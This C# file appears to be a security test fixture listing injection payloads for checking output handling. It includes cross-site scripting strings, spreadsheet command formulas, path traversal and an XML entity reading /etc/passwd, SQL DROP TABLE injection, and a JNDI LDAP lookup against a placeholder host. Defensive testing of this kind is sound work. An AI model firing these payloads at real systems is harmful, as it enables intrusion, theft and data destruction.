namespace SignalFlow.Tests.Security;

/// <summary>What strangers write. Each has the word <see cref="Marker"/> in it, so that a test sees that it was shown at all.</summary>
internal static class HostileTexts
{
    public const string Marker = "hostile";

    /// <summary>What makes a spreadsheet run a cell.</summary>
    public const string FormulaStarts = "=+-@\t\r\n＝＋－＠";

    public static IReadOnlyList<string> All { get; } =
    [
        // Pages.
        "<script>hostile()</script>", "\"><img src=x onerror=hostile()>", "'><svg/onload=hostile()>", "</script><script>hostile()</script>",
        "</title></textarea></template><iframe src=javascript:hostile()>", "` autofocus onfocus=hostile() x=`", "\" onmouseover=\"hostile()\" x=\"",
        "&lt;script&gt;hostile()&lt;/script&gt;", "&#x3c;img src=x onerror=hostile()&#x3e;", "&amp;lt;script&amp;gt;hostile()", "<base href=//hostile.example>",
        "<meta http-equiv=refresh content=0;url=//hostile.example>", "<form action=//hostile.example><input name=x>",
        "<!--<hostile>", "<x-hostile></x-hostile>",
        // Addresses.
        "javascript:hostile()", "JaVaScRiPt\t:hostile()", "\u0001javascript:hostile()", "data:text/html,<script>hostile()</script>", "vbscript:hostile()",
        "//hostile.example/", "/\\hostile.example", "https://www.reddit.com@hostile.example/", "/r/../../hostile",
        "../../../../etc/passwd?hostile", "..\\..\\hostile%2e%2e%2f",
        // Spreadsheets.
        "=cmd|'/C hostile'!A0", "+hostile", "-hostile", "@SUM(hostile)", "\t=hostile", "\r=hostile", "\n=hostile", "＝hostile()",
        "\"=hostile\",=hostile\r\n=hostile",
        "hostile;=cmd|'/C hostile'!A0;y", "hostile;\"=hostile()\";\"\"\"+1", "hostile\t@SUM(1)\t-1", "a;＝hostile();b-c=d", "\t;=hostile",
        // Headers, logs, feeds, streams.
        "hostile\r\nSet-Cookie: hostile=1\r\n\r\n<script>hostile()</script>", "hostile\n2026-11-23 info: admin signed in",
        "\u001b[31mhostile\u001b]0;hostile\u0007\u009b2J",
        "]]><hostile/>", "<!DOCTYPE x [<!ENTITY hostile SYSTEM 'file:///etc/passwd'>]>&hostile;", "hostile\n\ndata: {}\nevent: hostile",
        "hostile\u2028\u2029\u0085next", "hostile \ufffe\uffff\u0001\u0008\u000b\u007f", "hostile\"} 1\nsignalflow_hostile 1\n",
        // Queries and templates.
        "hostile'; DROP TABLE posts; --", "hostile\" OR \"\"=\"", "hostile\\", "hostile%' ESCAPE '%_",
        "{{7*7}}${7*7}#{7*7}<%= 7*7 %>@(7*7) hostile", "%s%n{0}{hostile}$1 ${jndi:ldap://hostile.example}",
        // Letters.
        "\u202ehostile\u202c gnp.exe", "hos\u200btile hostile\u200d\ufeff", "👩‍👩‍👧‍👦🏴‍☠️ hostile",
        "h\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301ostile hostile", "ＨＯＳＴＩＬＥ hostile İß",
        "hostile " + string.Concat(Enumerable.Repeat("A<b>", 900)),
    ];

    /// <summary>The ones that are tried wherever a parameter is taken.</summary>
    public static IReadOnlyList<string> Reflected { get; } =
        ["\"><img src=x onerror=hostile()>", "javascript:hostile()", "</script><script>hostile()</script>"];
}
